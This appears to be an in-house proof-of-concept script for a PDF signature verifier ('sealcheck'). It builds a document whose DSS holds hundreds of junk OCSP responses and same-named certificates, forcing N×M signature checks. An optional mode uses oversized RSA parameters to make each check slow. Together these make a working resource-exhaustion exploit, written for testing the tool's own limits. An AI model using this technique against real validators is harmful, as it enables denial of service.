// D2: every OCSP response in the evidence is signature-checked against every candidate responder certificate that
// matches its responder id, for every certificate and time the checks ask about: src/pki/ocsp.ts judgeOcsp judges
// the signature whether or not the CertID is about the certificate asked (judgeSignature(input, aboutTarget)), and
// judgeSignature tries every candidate ([response certs, issuer, ...pool]) until one verifies. N junk responses
// naming one responder by name and M junk certificates with that name (none of whose keys verify) in a DSS cost
// N x M signature verifications per question, and the DSS limit (1,000 items that decode) allows N = M = 500.
// No key is needed: the responses are signed by a key of one's own, the certificates carry another.
//   [SLOW=1] npx tsx scripts/attack-s6/verify-flood.ts [flood|honest] [N] [M]
// flood: samples/valid/archive.pdf plus one LTV-only DSS revision of N junk OCSP responses and M junk certificates
// (default 100 and 100). honest: the same revision with the N responses and no certificate of that name.
// Prints sealcheck's verdict and the wall time of `verify` (the CLI, one process).
import { createPublicKey, randomBytes, type KeyObject } from "node:crypto";
import { OIDS, bits, encode, explicit, int, nul, octets, oid, raw, seq } from "../generator/der.js";
import { derChildren, readTlv, type Tlv } from "../../src/pki/der.js";
import { generateRsaKey } from "../generator/keys.js";
import { createOcspResponse } from "../generator/ocsp.js";
import { extensions, issueCertificate, issued, serialFor } from "../generator/pki.js";
import { pki, sample, save, show, verify, withDss, work } from "../attack36/lib.js";

const mode = process.argv[2] ?? "flood";
if (!["flood", "honest"].includes(mode)) throw new Error(`mode: flood|honest, not ${mode}`);
const N = Number(process.argv[3] ?? 100);
const M = Number(process.argv[4] ?? 100);
const P = pki();
const signing = generateRsaKey(2048);
const name: [string, string][] = [[OIDS.commonName, "Flood Responder"]];
const cert = (i: number, key = signing) =>
  issueCertificate({
    subject: name,
    subjectKey: key,
    issuer: { ...P.foreignRoot, key: signing },
    notBefore: new Date("2020-01-01T00:00:00Z"),
    notAfter: new Date("2125-01-01T00:00:00Z"),
    serial: serialFor(`attack-s6-d2-${i}`),
    extensions: [extensions.extKeyUsage(false, OIDS.kpOcspSigning)],
  });
const responder = issued("ocspResponder", cert(-1), signing);
// SLOW=1: an RSA public key of a 16,384-bit modulus (OpenSSL's largest) and a 63-bit public exponent (OpenSSL
// allows up to 64 bits above 3,072-bit moduli; weakKeyReason asks only e >= 65537 and odd, and only after a
// candidate verifies): each verification costs about 17 ms instead of 0.05 ms. No private key exists or is needed.
const other = process.env.SLOW === "1" ? slowRsaPublicKey() : generateRsaKey(2048);
const responses = Array.from({ length: N }, (_, i) =>
  withSignatureBytes(
    createOcspResponse({
      subject: P.seal,
      issuer: P.sealRoot,
      responder,
      responderId: "byName",
      certs: [],
      producedAt: new Date(Date.UTC(2025, 11, 9, 0, 0, i)),
    }),
  ),
);
const certs = mode === "flood" ? Array.from({ length: M }, (_, i) => cert(i, other)) : [];
/**
 * With SLOW=1, the response's signature replaced by 2,048 bytes (a 16,384-bit value below the candidates' modulus):
 * OpenSSL refuses a signature of another length than the modulus before any arithmetic, so a short one costs
 * nothing; one of the right length costs the modular exponentiation.
 */
function withSignatureBytes(ocsp: Uint8Array): Uint8Array {
  if (process.env.SLOW !== "1") return ocsp;
  const kids = (d: Uint8Array, t: Tlv) => derChildren(d, t.body, t.end)!;
  const top = readTlv(ocsp, 0, ocsp.length)!;
  const [status, wrapped] = kids(ocsp, top);
  const rb = readTlv(ocsp, wrapped!.body, wrapped!.end)!;
  const [type, octs] = kids(ocsp, rb);
  const basic = ocsp.subarray(octs!.body, octs!.end);
  const b = readTlv(basic, 0, basic.length)!;
  const [tbs, alg, , ...rest] = kids(basic, b);
  const part = (d: Uint8Array, t: Tlv) => raw(d.subarray(t.start, t.end));
  const sig = randomBytes(2048);
  sig[0] = 0x01;
  const newBasic = encode(seq(part(basic, tbs!), part(basic, alg!), bits(sig), ...rest.map((t) => part(basic, t))));
  return encode(seq(part(ocsp, status!), explicit(0, seq(part(ocsp, type!), octets(newBasic)))));
}

function slowRsaPublicKey(): KeyObject {
  const n = randomBytes(2048);
  n[0]! |= 0x80;
  n[2047]! |= 1;
  const e = randomBytes(8);
  e[0] = (e[0]! & 0x7f) | 0x40;
  e[7]! |= 1;
  const rsaPublicKey = encode(seq(int(new Uint8Array([0, ...n])), int(new Uint8Array([0, ...e]))));
  const spki = encode(seq(seq(oid("1.2.840.113549.1.1.1"), nul()), bits(rsaPublicKey)));
  return createPublicKey({ key: Buffer.from(spki), format: "der", type: "spki" });
}
const file = save(work(`s6-d2-${mode}`), "archive.pdf", withDss(sample("valid/archive.pdf"), { ocsps: responses, certs }));
console.log(`wrote ${file} (${mode}): ${N} OCSP responses by "Flood Responder", ${certs.length} certificates named so (another key)`);
const t0 = Date.now();
const v = verify(file);
console.log(`== verify took ${((Date.now() - t0) / 1000).toFixed(1)} s`);
show(mode, v);
